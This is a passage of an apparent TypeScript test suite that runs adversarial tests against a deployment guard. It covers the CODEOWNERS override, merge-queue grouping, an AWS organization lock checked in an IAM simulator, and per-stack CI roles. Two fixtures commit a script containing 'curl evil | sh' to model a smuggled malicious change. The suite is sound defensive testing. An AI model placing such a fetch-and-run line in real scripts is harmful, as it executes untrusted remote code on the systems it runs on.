/**
 * The guard's newest parts attacked, as the outside testers will: the two-person override of the
 * freeze (CODEOWNERS, approvals, the merge queue, the deploy's re-check), the organization's lock,
 * the per-stack CI roles and the workflows' matrix, instance profiles, the revoked-until tag and
 * verify's reading of a live revocation. Every attack that got through is kept with its exact
 * failure; variants that already failed are kept where no other test covers them; benign changes
 * still pass. Where the verdict follows from a pure function the test calls it; the rest run the
 * guard (or the trusted judge, or the deploy, against a fake GitHub) on real git repositories whose
 * base holds a revocation in force, with cutoffs relative to the test's clock.
 */
import * as assert from "assert";
import * as fs from "fs";
import * as path from "path";
import * as YAML from "yaml";
import { Capture, commitFiles, environment, git, project, repository } from "./helpers";
import { PROJECT_ROOT } from "../cli/project";
import { commandMain } from "../cli/main";
import { Codeowners, ownerRule, parseCodeowners } from "../guard/codeowners";
import { Membership, OVERRIDE_LABEL, PullRequestFacts, decideOverride } from "../guard/override";
import { readCodeowners } from "../revocation/override";
import { FakeGitHub, fakeGitHub } from "./fakeGitHub";
import { runSimulation } from "@cloud-copilot/iam-simulate";
import { LOCK_POLICY_NAME, lockPolicy } from "../iam/organizationPolicy";
import { PolicyDocument, REVOKED_UNTIL_TAG } from "../iam/policy";
import { judgeRolePolicies } from "../iam/liveRevocation";
import { Cutoff } from "../iam/cutoff";

const guard = commandMain("guard");
const ci = commandMain("ci");

const NOW = new Date("2026-11-27T12:00:00Z");
/** In force until 2026-11-27T23:00:00Z. */
const CUTOFF = "2026-11-27T10:00:00Z";
const SAFE = "2026-11-27T23:00:00Z";
const ACCOUNT = "111111111111";
const PASSED = "No revocation is weakened since main.";
const FAILED = (n: number) => `${n} change(s) would weaken a revocation since main.`;

/** Stack dev: victim (revoked, trusting EC2) and bystander, in ACCOUNT; `victimExtra` and `top` add lines. */
const dev = (victimExtra = "", top = "", bystanderExtra = "") =>
    `config:\n  aws:region: eu-west-1\n  aws:allowedAccountIds: ["${ACCOUNT}"]\n${top}  revocable-roles:roles:\n    victim:\n      trust:\n        services: ["ec2.amazonaws.com"]\n      revokeBefore: "${CUTOFF}"\n${victimExtra}    bystander:\n      trust:\n        accounts: ["${ACCOUNT}"]\n${bystanderExtra}`;

/** Runs the guard on a repository whose base is `base` and whose working tree is `head`. */
async function run(base: Record<string, string>, head: Record<string, string | undefined>, now = NOW) {
    const root = repository(base, head);
    const [out, err] = [new Capture(), new Capture()];
    const code = await guard(["--base", "main"], out, err, environment({ root, programRoot: PROJECT_ROOT, now }));
    return { code, lines: out.text.split("\n").slice(0, -1), stderr: err.text };
}

const FROZEN = (paths: string, held = `dev/victim until ${SAFE}`) =>
    `FAIL project: ${paths}: changed while revocations are in force (${held}): only stack files and documentation may change until every revocation is safe to remove, because the guard cannot judge what a change to the program, its packages, settings, tools or workflows deploys; merge after ${SAFE}, when every revocation is safe to remove`;

describe("attacks on the guard's newest parts (issues 30 to 32)", function () {
    this.timeout(30_000);

    describe("1. the two-person override of the freeze", () => {
        it("fails a change to docs/CODEOWNERS while revocations are in force: GitHub reads it as the code owners when the repository has no other, so it is no documentation", async () => {
            // Before: docs/ counted as documentation, so the code owners the override trusts changed behind a green guard.
            const base = { "Pulumi.dev.yaml": dev(), "docs/CODEOWNERS": "* @alice\n", "docs/guide.md": "# Guide\n" };
            assert.deepStrictEqual(await run(base, { "docs/CODEOWNERS": "* @mallory-friend\n", "docs/guide.md": "# Guide, edited\n" }), {
                code: 1,
                lines: [FROZEN("docs/CODEOWNERS"), FAILED(1)],
                stderr: "",
            });
            // Documentation beside it still passes.
            assert.deepStrictEqual(await run(base, { "docs/guide.md": "# Guide, edited\n" }), { code: 0, lines: [PASSED], stderr: "" });
        });

        it("refuses a CODEOWNERS that GitHub may read otherwise than this tool: a byte order mark, a no-break space, a lone carriage return, a / alone", () => {
            // Before: trim() dropped the byte order mark and the no-break space, and / matched nothing; the file was read.
            const problems = (text: string) => parseCodeowners(".github/CODEOWNERS", text).problems;
            assert.deepStrictEqual(
                [
                    problems("\uFEFF*  @alice\n"),
                    problems("*  @alice\n\u00A0/tools/  @bob\n"),
                    problems("*  @alice\r/tools/  @bob\n"),
                    problems("/tools/  @bob\n/  @carol\n"),
                    problems("*  @alice\u2028/tools/  @bob\n"),
                ],
                [
                    [
                        ".github/CODEOWNERS: line 1: starts with a byte order mark (U+FEFF), which GitHub does not document reading; save the file without it",
                    ],
                    [
                        ".github/CODEOWNERS: line 2: holds the character U+00A0, a control character or whitespace other than a space or a tab, which GitHub may read otherwise than this tool; remove it",
                    ],
                    [
                        ".github/CODEOWNERS: line 1: holds the character U+000D, a control character or whitespace other than a space or a tab, which GitHub may read otherwise than this tool; remove it",
                    ],
                    ['.github/CODEOWNERS: line 2: the pattern "/" is refused: a / alone names no path GitHub documents'],
                    [
                        ".github/CODEOWNERS: line 1: holds the character U+2028, a control character or whitespace other than a space or a tab, which GitHub may read otherwise than this tool; remove it",
                    ],
                ],
            );
            // Windows line ends are read as GitHub reads them.
            assert.deepStrictEqual(problems("*  @alice\r\n/tools/  @bob\r\n"), []);
        });

        it("refuses a base CODEOWNERS that is a symbolic link or a folder, whose text is not what GitHub reads as owners", () => {
            // Before: git show printed the link's target ("* @mallory") or the folder's listing and that was parsed as the owners.
            const root = repository({ "Pulumi.dev.yaml": dev(), CODEOWNERS: "* @alice\n" });
            fs.mkdirSync(path.join(root, ".github"), { recursive: true });
            fs.symlinkSync("* @mallory", path.join(root, ".github", "CODEOWNERS"));
            const linked = commitFiles(root, {}, "a link");
            fs.rmSync(path.join(root, ".github", "CODEOWNERS"));
            const folder = commitFiles(root, { ".github/CODEOWNERS/README": "* @mallory\n" }, "a folder");
            fs.rmSync(path.join(root, ".github", "CODEOWNERS"), { recursive: true });
            const plain = commitFiles(root, { ".github/CODEOWNERS": "* @bob\n" }, "a file");
            assert.deepStrictEqual(
                [linked, folder].map((commit) => readCodeowners(root, commit)?.problems),
                [
                    [".github/CODEOWNERS is a symbolic link, not a regular file; GitHub's reading of it is not documented"],
                    [".github/CODEOWNERS is a folder, not a regular file; GitHub's reading of it is not documented"],
                ],
            );
            assert.deepStrictEqual(readCodeowners(root, plain)?.rules[0].owners, [{ kind: "user", login: "bob" }]);
        });

        /** The override's decision for `paths` of pull request #7 by mallory, its head HEAD, with `reviews`. */
        const HEAD = "a".repeat(40);
        const decide = (
            codeowners: Codeowners,
            paths: string[],
            reviews: PullRequestFacts["reviews"],
            writers: ReadonlyMap<string, Membership> = new Map(reviews.map((r) => [r.login.toLowerCase(), { member: true }])),
        ) => {
            const decision = decideOverride({
                paths,
                codeowners,
                pr: { number: 7, author: "mallory", head: HEAD, labels: [OVERRIDE_LABEL], reviews },
                memberships: new Map(),
                writers,
            });
            return decision.granted
                ? `granted: ${decision.approvals.map((a) => `@${a.login} ${a.paths.join(" ")}`).join("; ")}`
                : decision.text;
        };
        const approved = (login: string, commit = HEAD) => ({ login, state: "APPROVED", commit });
        const DOES_NOT_APPLY = `the override (label ${OVERRIDE_LABEL} on pull request #7) does not apply`;

        it("reads patterns as GitHub does: paths case-sensitive, a leading slash anchoring, a trailing slash at any depth, ** across folders", () => {
            // Held: the owner of each path is the one GitHub names, so an owner of TOOLS/ cannot approve tools/ nor the other way round.
            const codeowners = parseCodeowners(
                ".github/CODEOWNERS",
                "*  @alice\n/tools/  @bob\napps/  @carol\n/infra/**/deploy.sh  @dave\n*.SH  @erin\n",
            );
            const owner = (p: string) =>
                ownerRule(codeowners, p)
                    ?.owners.map((o) => (o.kind === "user" ? o.login : "?"))
                    .join(" ");
            assert.deepStrictEqual(
                [
                    "tools/run.sh",
                    "TOOLS/run.sh",
                    "x/tools/run.sh",
                    "src/apps/a.ts",
                    "apps",
                    "infra/deploy.sh",
                    "infra/a/b/deploy.sh",
                    "run.SH",
                    "run.sh",
                ].map((p) => `${p}: ${owner(p)}`),
                [
                    "tools/run.sh: bob",
                    "TOOLS/run.sh: alice",
                    "x/tools/run.sh: alice",
                    "src/apps/a.ts: carol",
                    "apps: alice",
                    "infra/deploy.sh: dave",
                    "infra/a/b/deploy.sh: dave",
                    "run.SH: erin",
                    "run.sh: alice",
                ],
            );
            assert.deepStrictEqual(
                decide(codeowners, ["TOOLS/run.sh"], [approved("bob")]),
                `${DOES_NOT_APPLY}: no code owner other than the author approved the head commit ${HEAD.slice(0, 12)} for TOOLS/run.sh (owners @alice by .github/CODEOWNERS line 1)`,
            );
        });

        it("refuses owners GitHub would not read: a trailing dot, a leading hyphen, a Cyrillic letter, a bot", () => {
            // Held: each makes the whole file refused, so no approval counts.
            const problems = (owner: string) => parseCodeowners("CODEOWNERS", `*  ${owner}\n`).problems;
            assert.deepStrictEqual(["@alice.", "@-alice", "@\u0430lice", "@renovate[bot]", "@acme/", "alice"].map(problems), [
                ['CODEOWNERS: line 1: "@alice." is not an owner GitHub reads (@user, @org/team or an email address)'],
                ['CODEOWNERS: line 1: "@-alice" is not an owner GitHub reads (@user, @org/team or an email address)'],
                ['CODEOWNERS: line 1: "@\u0430lice" is not an owner GitHub reads (@user, @org/team or an email address)'],
                ['CODEOWNERS: line 1: "@renovate[bot]" is not an owner GitHub reads (@user, @org/team or an email address)'],
                ['CODEOWNERS: line 1: "@acme/" is not an owner GitHub reads (@user, @org/team or an email address)'],
                ['CODEOWNERS: line 1: "alice" is not an owner GitHub reads (@user, @org/team or an email address)'],
            ]);
        });

        it("counts only an owner's latest deciding review of the head commit: never the author in another case, a dismissed or withdrawn approval, one on another commit, a comment, a bot", () => {
            // Held: every variant the issue names is refused, and an approval a later comment leaves standing counts, as on GitHub.
            const codeowners = parseCodeowners(".github/CODEOWNERS", "*  @alice @Mallory\n");
            const cases: Record<string, PullRequestFacts["reviews"]> = {
                author: [approved("MALLORY")],
                dismissed: [approved("alice"), { login: "alice", state: "DISMISSED", commit: HEAD }],
                withdrawn: [approved("alice"), { login: "ALICE", state: "CHANGES_REQUESTED", commit: HEAD }],
                earlier: [approved("alice", "b".repeat(40))],
                commented: [{ login: "alice", state: "COMMENTED", commit: HEAD }],
                pending: [{ login: "alice", state: "PENDING", commit: HEAD }],
                bot: [approved("alice[bot]")],
                standing: [approved("alice"), { login: "alice", state: "COMMENTED", commit: HEAD }],
            };
            const uncovered = `${DOES_NOT_APPLY}: no code owner other than the author approved the head commit ${HEAD.slice(0, 12)} for tools/x.sh (owners @alice @Mallory by .github/CODEOWNERS line 1)`;
            assert.deepStrictEqual(
                Object.fromEntries(Object.entries(cases).map(([name, reviews]) => [name, decide(codeowners, ["tools/x.sh"], reviews)])),
                {
                    author: `${uncovered} (@MALLORY is the author)`,
                    dismissed: uncovered,
                    withdrawn: uncovered,
                    earlier: `${uncovered} (@alice approved an earlier commit ${"b".repeat(12)}, not the head ${HEAD.slice(0, 12)})`,
                    commented: uncovered,
                    pending: uncovered,
                    bot: uncovered,
                    standing: "granted: @alice tools/x.sh",
                },
            );
        });

        describe("the trusted judge with GitHub's API (a fake server)", () => {
            const BASE_OWNERS = "*  @alice\n/Pulumi.*.yaml\n";
            let server: FakeGitHub | undefined;
            afterEach(async () => {
                await server?.close();
                server = undefined;
            });

            /** A clone at the base (dev's victim revoked, `owners` as .github/CODEOWNERS) that has fetched `judged`, the commit the event names. */
            function clonedAt(origin: string, base: string, judged: string) {
                const clone = project({});
                fs.rmSync(clone, { recursive: true, force: true });
                git(path.dirname(clone), "clone", "-q", "--no-local", "--no-checkout", origin, clone);
                git(clone, "checkout", "-q", base);
                git(clone, "fetch", "-q", "origin", judged);
                return clone;
            }

            function origin(owners = BASE_OWNERS) {
                const root = repository({ "Pulumi.dev.yaml": dev(), ".github/CODEOWNERS": owners });
                return { root, base: git(root, "rev-parse", "HEAD").trim() };
            }

            /** A branch off the base with `files` committed; the repository is left on main. */
            function branch(root: string, base: string, name: string, files: Record<string, string | undefined>) {
                git(root, "checkout", "-q", "-b", name, base);
                const sha = commitFiles(root, files, name);
                git(root, "checkout", "-q", "main");
                return sha;
            }

            /** GitHub's answer that these reviewers may write to acme/infra. */
            const WRITERS = Object.fromEntries(
                ["alice", "friend"].map((login) => [`/repos/acme/infra/collaborators/${login}/permission`, { permission: "write" }]),
            );

            async function judge(clone: string, event: { name: string; payload: unknown }, routes: Record<string, unknown>) {
                await server?.close();
                server = await fakeGitHub({ ...WRITERS, ...routes });
                const file = path.join(project({}), "event.json");
                fs.writeFileSync(file, JSON.stringify(event.payload));
                const [out, err] = [new Capture(), new Capture()];
                const code = await ci(
                    ["guard"],
                    out,
                    err,
                    environment({
                        root: clone,
                        now: NOW,
                        variables: {
                            ...process.env,
                            GITHUB_EVENT_NAME: event.name,
                            GITHUB_EVENT_PATH: file,
                            GITHUB_TOKEN: "a-token",
                            GITHUB_REPOSITORY: "acme/infra",
                            GITHUB_API_URL: server.url,
                        },
                    }),
                );
                return { code, first: out.text.split("\n")[0], stderr: err.text };
            }

            const pull = (head: string) => ({
                number: 7,
                user: { login: "mallory" },
                head: { sha: head },
                labels: [{ name: OVERRIDE_LABEL }],
            });
            const review = (login: string, commit: string) => ({ user: { login }, state: "APPROVED", commit_id: commit });
            const OVERRIDDEN = (paths: string, head: string, who: string) =>
                `ok   project: ${paths}: changed while revocations are in force, allowed by the override of pull request #7 (label ${OVERRIDE_LABEL}): code owners approved its head commit ${head.slice(0, 12)}: ${who}; every other rule still applies, and the deploy judges the change again with its own program`;

            it("judges the approvals by the base's CODEOWNERS, never by the one the pull request changes", async () => {
                // Held: the pull request makes mallory's friend the owner of tools/, and the friend approves.
                const { root, base } = origin();
                const head = branch(root, base, "feature", {
                    ".github/CODEOWNERS": `${BASE_OWNERS}/tools/  @friend\n`,
                    "tools/x.sh": "exit 0\n",
                });
                const clone = clonedAt(root, base, head);
                const event = {
                    name: "pull_request_review",
                    payload: { pull_request: { number: 7, base: { sha: base }, head: { sha: head } } },
                };
                const result = await judge(clone, event, {
                    "/repos/acme/infra/pulls/7": pull(head),
                    "/repos/acme/infra/pulls/7/reviews": [review("friend", head)],
                });
                assert.deepStrictEqual(result, {
                    code: 1,
                    first: `${FROZEN(".github/CODEOWNERS, tools/x.sh")}; ${DOES_NOT_APPLY}: no code owner other than the author approved the head commit ${head.slice(0, 12)} for .github/CODEOWNERS (owners @alice by .github/CODEOWNERS line 1), tools/x.sh (owners @alice by .github/CODEOWNERS line 1)`,
                    stderr: "",
                });
            });

            it("counts a code owner's approval only when GitHub says the owner may write to the repository, as GitHub counts it", async () => {
                // Before: any approving review of a login CODEOWNERS names counted, though GitHub ignores an owner without write
                // access (one who lost it, or anyone at all on a public repository, where every account may review).
                const { root, base } = origin();
                const head = branch(root, base, "feature", { "tools/x.sh": "exit 0\n" });
                const clone = clonedAt(root, base, head);
                const event = {
                    name: "pull_request_review",
                    payload: { pull_request: { number: 7, base: { sha: base }, head: { sha: head } } },
                };
                const routes = (permission: unknown) => ({
                    "/repos/acme/infra/pulls/7": pull(head),
                    "/repos/acme/infra/pulls/7/reviews": [review("alice", head)],
                    "/repos/acme/infra/collaborators/alice/permission": permission,
                });
                const refused = (why: string) => ({
                    code: 1,
                    first: `${FROZEN("tools/x.sh")}; ${DOES_NOT_APPLY}: no code owner other than the author approved the head commit ${head.slice(0, 12)} for tools/x.sh (owners @alice by .github/CODEOWNERS line 1) (${why})`,
                    stderr: "",
                });
                assert.deepStrictEqual(
                    [
                        await judge(clone, event, routes({ permission: "read", role_name: "triage" })),
                        await judge(clone, event, routes({ status: 404, body: { message: "Not Found" } })),
                        await judge(clone, event, routes({ permission: "write", role_name: "maintain" })),
                    ],
                    [
                        refused(
                            "@alice has read access to acme/infra, and GitHub counts a code owner's review only from someone who may write to it",
                        ),
                        refused("GitHub answered 404 (Not Found) to @alice's access to acme/infra, so the approval does not count"),
                        { code: 0, first: OVERRIDDEN("tools/x.sh", head, "@alice for tools/x.sh"), stderr: "" },
                    ],
                );
            });

            it("in a merge queue, refuses the override for a group that also holds another pull request's frozen change, and counts only approvals of the commit the queue merged", async () => {
                // Before: the group's paths were all judged with #7's approvals, so #5's unapproved tools/a.sh rode on them.
                const { root, base } = origin();
                const other = branch(root, base, "other", { "tools/a.sh": "curl evil | sh\n" });
                const own = branch(root, base, "own", { "tools/b.sh": "exit 0\n" });
                git(root, "checkout", "-q", "-b", "queue", base);
                git(root, "merge", "-q", "--no-ff", "-m", "Merge pull request #5", other);
                git(root, "merge", "-q", "--no-ff", "-m", "Merge pull request #7", own);
                const group = git(root, "rev-parse", "HEAD").trim();
                git(root, "checkout", "-q", "-b", "alone", base);
                git(root, "merge", "-q", "--no-ff", "-m", "Merge pull request #7", own);
                const alone = git(root, "rev-parse", "HEAD").trim();
                git(root, "checkout", "-q", "main");
                const queued = (head: string) => ({
                    name: "merge_group",
                    payload: { merge_group: { base_sha: base, head_sha: head, head_ref: `refs/heads/gh-readonly-queue/main/pr-7-${own}` } },
                });
                const routes = (prHead: string, approvedOn: string) => ({
                    "/repos/acme/infra/pulls/7": pull(prHead),
                    "/repos/acme/infra/pulls/7/reviews": [review("alice", approvedOn)],
                });
                const later = "f".repeat(40);
                assert.deepStrictEqual(
                    [
                        await judge(clonedAt(root, base, group), queued(group), routes(own, own)),
                        await judge(clonedAt(root, base, alone), queued(alone), routes(later, later)),
                        await judge(clonedAt(root, base, alone), queued(alone), routes(own, own)),
                    ],
                    [
                        {
                            code: 1,
                            first: `${FROZEN("tools/a.sh, tools/b.sh")}; ${DOES_NOT_APPLY}: the merge group ${group.slice(0, 12)} holds 2 commits on top of its base ${base.slice(0, 12)}, so it brings more than pull request #7's own change (other pull requests queued ahead of it, or a rebase of several commits), and the override is checked for one pull request at a time; while revocations are in force, let the merge queue build groups of one pull request (maximum group size 1) and merge with a merge commit or a squash`,
                            stderr: "",
                        },
                        {
                            code: 1,
                            first: `${FROZEN("tools/b.sh")}; ${DOES_NOT_APPLY}: no code owner other than the author approved the head commit ${own.slice(0, 12)} for tools/b.sh (owners @alice by .github/CODEOWNERS line 1) (@alice approved an earlier commit ${later.slice(0, 12)}, not the head ${own.slice(0, 12)})`,
                            stderr: "",
                        },
                        { code: 0, first: OVERRIDDEN("tools/b.sh", own, "@alice for tools/b.sh"), stderr: "" },
                    ],
                );
            });

            it("the deploy refuses a frozen change hidden in an earlier undeployed commit pushed past any pull request, though a later merge's override holds", async () => {
                // Held: each commit since the deployed one is checked, not only the last merge.
                const { root, base } = origin();
                const pushed = commitFiles(root, { "tools/a.sh": "curl evil | sh\n" }, "pushed straight to main");
                const merged = commitFiles(root, { "tools/b.sh": "exit 0\n" }, "Merge pull request #13");
                const bin = project({});
                fs.writeFileSync(
                    path.join(bin, "pulumi"),
                    `#!/bin/sh\necho "$*" >> "${bin}/log"\ncase "$1 $2 $3" in "stack tag ls") echo '{"revocable-roles:deployed-commit":"${base}"}';; esac\nexit 0\n`,
                    { mode: 0o755 },
                );
                server = await fakeGitHub({
                    ...WRITERS,
                    [`/repos/acme/infra/commits/${pushed}/pulls`]: [],
                    [`/repos/acme/infra/commits/${merged}/pulls`]: [
                        { ...pull("d".repeat(40)), number: 13, merged_at: "2026-11-27T11:30:00Z" },
                    ],
                    "/repos/acme/infra/pulls/13/reviews": [review("alice", "d".repeat(40))],
                });
                const [out, err] = [new Capture(), new Capture()];
                const variables = {
                    ...process.env,
                    PATH: `${bin}:${process.env.PATH}`,
                    GITHUB_TOKEN: "a-token",
                    GITHUB_REPOSITORY: "acme/infra",
                    GITHUB_API_URL: server.url,
                };
                const code = await ci(["deploy", "--stack", "dev"], out, err, environment({ root, now: NOW, variables }));
                assert.deepStrictEqual(
                    { code, first: out.text.split("\n")[1], calls: fs.readFileSync(path.join(bin, "log"), "utf8") },
                    {
                        code: 1,
                        first: `${FROZEN("tools/a.sh, tools/b.sh")}; the deploy checked the override again and it does not hold: commit ${pushed.slice(0, 12)} (tools/a.sh) was not merged through a pull request GitHub knows`,
                        calls: "stack tag ls --json --stack dev\n",
                    },
                );
            });
        });
    });

    describe("2. the organization's lock", () => {
        const MEMBER = "111111111111";
        const DEPLOY = `arn:aws:iam::${MEMBER}:role/pulumi-deploy`;
        const OTHER = "arn:aws:iam::222222222222:role/pulumi-deploy";
        const organization = (roles: string[] | undefined, more = "") =>
            `config:\n  aws:region: us-east-1\n  revocable-roles:organization:\n    targets: ["r-ab12"]\n    policyBudget: 3\n${roles === undefined ? "" : `    lockRevocations: true\n    deployRoleArns: ${JSON.stringify(roles)}\n`}${more}    revocations: []\n`;
        const elsewhere = (roles: string[] | undefined) => organization(roles).replace('"r-ab12"', '"ou-ab12-cd34ef56"');
        const prod = `config:\n  revocable-roles:roles:\n    ci:\n      trust:\n        services: ["codebuild.amazonaws.com"]\n      revokeBefore: "${CUTOFF}"\n`;
        const IN_FORCE = `while revocations are in force (prod: ci until ${SAFE})`;
        const fails = async (base: Record<string, string>, head: Record<string, string | undefined>) =>
            (await run(base, head)).lines.filter((line) => line.startsWith("FAIL"));

        it("fails dropping a deploy role from deployRoleArns while a revocation is in force: the lock would deny it tagging the roles it revokes", async () => {
            // Before: only an added role failed; a dropped one (the repository-wide AWS_DEPLOY_ROLE_ARN, which no stack file names) passed.
            const base = { "Pulumi.org.yaml": organization([DEPLOY, OTHER]), "Pulumi.prod.yaml": prod };
            const dropped = (arn: string) =>
                `FAIL org: organization lock: deployRoleArns drops ${arn} ${IN_FORCE}: the lock would deny it tagging a role revocable-roles:revoked-until, so a deploy or an hourly check that runs as it (a stack's deployRoleArn, or the repository's AWS_DEPLOY_ROLE_ARN, which the guard cannot see) could deploy no later revocation, nor remove one once its window is over; drop it once they are safe to remove`;
            assert.deepStrictEqual(
                [
                    await fails(base, { "Pulumi.org.yaml": organization([DEPLOY]) }),
                    // Spelled in another case, the exemption is another ARN: IAM compares ARNs in conditions case-sensitively.
                    await fails(base, { "Pulumi.org.yaml": organization([DEPLOY, OTHER.replace("pulumi-deploy", "Pulumi-Deploy")]) }),
                ],
                [
                    [dropped(OTHER)],
                    [
                        `FAIL org: organization lock: deployRoleArns adds arn:aws:iam::222222222222:role/Pulumi-Deploy ${IN_FORCE}: the lock would let it change the revoked roles; add it once they are safe to remove`,
                        dropped(OTHER),
                    ],
                ],
            );
            // Once nothing is in force, the list may change.
            assert.deepStrictEqual(
                (await run(base, { "Pulumi.org.yaml": organization([DEPLOY]) }, new Date("2026-11-28T00:00:00Z"))).lines,
                ["No revocation is weakened since main."],
            );
        });

        it("fails a deploy role added under another spelling, and the lock moved to another organization stack, while a revocation is in force", async () => {
            // Held: each spelling is another principal to the lock, and turning it off in one stack fails whatever another does.
            const base = {
                "Pulumi.org.yaml": organization([DEPLOY]),
                "Pulumi.prod.yaml": prod,
                // Another target: two stacks that fill one target together fail on their own (below).
                "Pulumi.org2.yaml": elsewhere(undefined),
            };
            const added = (arn: string) =>
                `FAIL org: organization lock: deployRoleArns adds ${arn} ${IN_FORCE}: the lock would let it change the revoked roles; add it once they are safe to remove`;
            const spellings = [
                `arn:aws:iam::${MEMBER}:role/Pulumi-Deploy`,
                `arn:aws-cn:iam::${MEMBER}:role/pulumi-deploy`,
                `arn:aws:iam::${MEMBER}:role/ops/pulumi-deploy`,
            ];
            assert.deepStrictEqual(await fails(base, { "Pulumi.org.yaml": organization([DEPLOY, ...spellings]) }), spellings.map(added));
            assert.deepStrictEqual(
                await fails(base, { "Pulumi.org.yaml": organization(undefined), "Pulumi.org2.yaml": elsewhere([DEPLOY]) }),
                [
                    `FAIL org: organization lock: lockRevocations is turned off ${IN_FORCE}: any principal of a member account allowed to change IAM roles could then remove a revocation again; turn it off once they are safe to remove`,
                ],
            );
        });

        it("fails a second organization stack that attaches to a target the first fills: together they would hold more policies than it takes", async () => {
            // Before: each stack's budget was checked alone, so org2's new revocation passed as "ok" and its deploy would fail
            // on AWS's limit of 5 policies per target, its revocation never deployed.
            const revoking = (budget: number, role: string, target = "r-ab12") =>
                `config:\n  aws:region: us-east-1\n  revocable-roles:organization:\n    targets: ["${target}"]\n    policyBudget: ${budget}\n    revocations:\n      - roleName: ${role}\n        revokeBefore: "${CUTOFF}"\n`;
            const base = { "Pulumi.org.yaml": revoking(3, "ci-deployer") };
            assert.deepStrictEqual(await run(base, { "Pulumi.org2.yaml": revoking(2, "other") }), {
                code: 1,
                lines: [
                    "FAIL org2: organization target r-ab12: is also a target of org (3 policies): with this stack's 2, the organization stacks would attach 5 of the layer's service control policies to it, and a target holds 5, one of which must allow actions (FullAWSAccess): the deploy that attaches past the limit fails, and with it that stack's revocations; attach each target from one stack, or lower the budgets to 4 policies in all",
                    `ok   org2: organization role other: new revocation: revokeBefore ${CUTOFF}`,
                    FAILED(1),
                ],
                stderr: "",
            });
            // Within the slots, or on another target, it passes.
            for (const head of [revoking(1, "other"), revoking(2, "other", "ou-ab12-cd34ef56")]) {
                assert.deepStrictEqual((await run(base, { "Pulumi.org2.yaml": head })).code, 0);
            }
        });

        it("denies, in the IAM simulator, the other ways at a locked role: creating one with the tag in another case, a tag read in another case; leaves open what undoes nothing", async () => {
            // Held. An inline deny wins over any allow, so a new version of an attached customer policy, a description or a
            // session duration changes nothing of a revocation; the exemption is an exact, case-sensitive ARN.
            const ALLOW_ALL = { Version: "2012-10-17", Statement: [{ Effect: "Allow", Action: "*", Resource: "*" }] };
            const decide = async (action: string, principal: string, resource: string, context: Record<string, string | string[]>) => {
                const result = await runSimulation(
                    {
                        identityPolicies: [{ name: "administrator", policy: ALLOW_ALL }],
                        serviceControlPolicies: [
                            {
                                orgIdentifier: "r-ab12",
                                policies: [
                                    { name: "FullAWSAccess", policy: ALLOW_ALL },
                                    { name: LOCK_POLICY_NAME, policy: lockPolicy([DEPLOY]) },
                                ],
                            },
                            { orgIdentifier: MEMBER, policies: [{ name: "FullAWSAccess", policy: ALLOW_ALL }] },
                        ],
                        resourceControlPolicies: [],
                        request: {
                            action,
                            principal: `arn:aws:sts::${MEMBER}:assumed-role/${principal}/session`,
                            resource: { accountId: MEMBER, resource: `arn:aws:iam::${MEMBER}:${resource}` },
                            contextVariables: { "aws:PrincipalArn": `arn:aws:iam::${MEMBER}:role/${principal}`, ...context },
                        },
                    },
                    {},
                );
                return result.resultType === "single" ? result.overallResult : result.resultType;
            };
            const locked = { [`aws:ResourceTag/${REVOKED_UNTIL_TAG}`]: SAFE };
            assert.deepStrictEqual(
                {
                    createWithTag: await decide("iam:CreateRole", "administrator", "role/ci-deployer", {
                        "aws:TagKeys": ["REVOCABLE-ROLES:REVOKED-UNTIL"],
                    }),
                    tagReadInAnotherCase: await decide("iam:PutRolePolicy", "administrator", "role/ci-deployer", {
                        "aws:ResourceTag/Revocable-Roles:Revoked-Until": SAFE,
                    }),
                    boundaryRemoved: await decide("iam:DeleteRolePermissionsBoundary", "administrator", "role/ci-deployer", locked),
                    deployRoleInAnotherCase: await decide("iam:DeleteRolePolicy", "Pulumi-Deploy", "role/ci-deployer", locked),
                    updateRole: await decide("iam:UpdateRole", "administrator", "role/ci-deployer", locked),
                    attachedPolicyVersion: await decide("iam:CreatePolicyVersion", "administrator", "policy/ci-deployer-permissions", {}),
                },
                {
                    createWithTag: "ExplicitlyDenied",
                    tagReadInAnotherCase: "ExplicitlyDenied",
                    boundaryRemoved: "ExplicitlyDenied",
                    deployRoleInAnotherCase: "ExplicitlyDenied",
                    updateRole: "Allowed",
                    attachedPolicyVersion: "Allowed",
                },
            );
        });
    });

    describe("3. per-stack CI roles and the workflows' matrix", () => {
        const CI = `  revocable-roles:ci:\n    previewRoleArn: arn:aws:iam::${ACCOUNT}:role/ci-preview\n    deployRoleArn: arn:aws:iam::${ACCOUNT}:role/ci-deploy\n`;
        const other = (top: string, key: string) =>
            `config:\n  aws:region: eu-west-1\n  aws:allowedAccountIds: ["${ACCOUNT}"]\n${top}  revocable-roles:roles:\n    ${key}:\n      trust:\n        accounts: ["${ACCOUNT}"]\n`;
        const changes = () =>
            `while victim is revoked: the stack's CI roles decide which role its deploy assumes; after this change the deploy may assume another role, or none it can, and a later revocation of the stack might not deploy`;

        it("fails CI roles given to, or taken from, a stack holding a revocation: either way its deploy assumes another role", async () => {
            // Held: the key is compared as a whole, absent included.
            const field = (name: string, from: string, to: string) =>
                `FAIL dev: Pulumi.dev.yaml: revocable-roles:ci.${name} changes from ${from} to ${to} ${changes()}`;
            const arn = (name: string) => `"arn:aws:iam::${ACCOUNT}:role/${name}"`;
            assert.deepStrictEqual(
                [
                    (await run({ "Pulumi.dev.yaml": dev() }, { "Pulumi.dev.yaml": dev("", CI) })).lines,
                    (await run({ "Pulumi.dev.yaml": dev("", CI) }, { "Pulumi.dev.yaml": dev() })).lines,
                ],
                [
                    [
                        field("deployRoleArn", "undefined", arn("ci-deploy")),
                        field("previewRoleArn", "undefined", arn("ci-preview")),
                        FAILED(2),
                    ],
                    [
                        field("deployRoleArn", arn("ci-deploy"), "undefined"),
                        field("previewRoleArn", arn("ci-preview"), "undefined"),
                        FAILED(2),
                    ],
                ],
            );
        });

        it("fails a stack named like another's hourly check (dev-verify) or like another in another case (DEV): each deploys in the other's GitHub environment", async () => {
            // Before: both passed as new stacks. dev-verify's deploy would run in dev's check environment, without reviewers,
            // which dev's deploy role trusts; DEV's in dev's own environment.
            const base = { "Pulumi.dev.yaml": dev("", CI) };
            assert.deepStrictEqual(
                await run(base, { "Pulumi.dev-verify.yaml": other(CI, "checker"), "Pulumi.DEV.yaml": other("", "upper") }),
                {
                    code: 1,
                    lines: [
                        "FAIL DEV: Pulumi.DEV.yaml: the deploy of stack DEV runs in the GitHub environment DEV, which is stack dev's (GitHub compares environment names regardless of case): the two stacks would share its protection rules, secrets and the OIDC sub their deploy roles trust; rename the stack",
